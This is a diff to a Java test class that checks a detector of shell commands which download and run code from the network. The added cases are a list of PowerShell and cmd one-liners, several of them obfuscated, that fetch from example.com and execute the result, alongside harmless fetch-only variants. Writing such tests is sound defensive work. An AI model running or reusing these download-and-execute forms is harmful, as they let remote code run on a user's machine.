@@ -78,4 +78,43 @@ class ShellFormsTest {
     void whatIsFetchedIsNotRun(String text) {
         assertThat(kinds(text)).isEmpty();
     }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "i`e`x (i`w`r 'http://example.com/p')",
+                "&('ie'+'x')(irm http://example.com/p)",
+                "&('ie'+'x') (New-Object ('Net.We'+'bClient')).DownloadString('http://example.com/p')",
+                "set-alias z iex\nz (irm http://example.com/p)",
+                "$h=[System.Net.Http.HttpClient]::new()\n$t=$h.GetStringAsync('http://example.com/p').Result\niex $t",
+                "$r=[Net.WebRequest]::Create('http://example.com/p').GetResponse().GetResponseStream()\n"
+                        + "iex ([IO.StreamReader]::new($r).ReadToEnd())",
+                "irm http://example.com/p | % { iex $_ }",
+                "irm http://example.com/p | ForEach-Object { Invoke-Expression $_ }",
+                "Start-Process powershell -ArgumentList '-c','irm http://example.com/p | iex' -WindowStyle Hidden",
+                "& cmd /c \"curl -o a.exe http://example.com/p && a.exe\"",
+                "cmd /c curl -s http://example.com/a.bat -o a.bat && a.bat",
+                "curl.exe -s http://example.com/p -o a.ps1\n. .\\a.ps1",
+                "powershell -c \"Start-BitsTransfer http://example.com/a.exe a.exe; .\\a.exe\"",
+                "msiexec /q /i http://example.com/a.msi",
+            })
+    void whatWindowsFetchesIsRun(String text) {
+        assertThat(kinds(text)).containsExactly(Trait.Kind.RUNS_DOWNLOAD_FROM_ANYWHERE);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "&('e'+'cho')(irm http://example.com/p)",
+                "set-alias z echo\nz (irm http://example.com/p)",
+                "$t=$h.GetStringAsync('http://example.com/p').Result\nWrite-Host $t",
+                "irm http://example.com/p | % { echo $_ }",
+                "Start-Process notepad -ArgumentList '-c','irm http://example.com/p | iex'",
+                "& cmd /c \"curl -o a.txt http://example.com/p && type a.txt\"",
+                "msiexec /q /i a.msi; Write-Host http://example.com",
+                "echo 'a'+'b' `n x",
+            })
+    void whatWindowsFetchesIsNotRun(String text) {
+        assertThat(kinds(text)).isEmpty();
+    }
 }
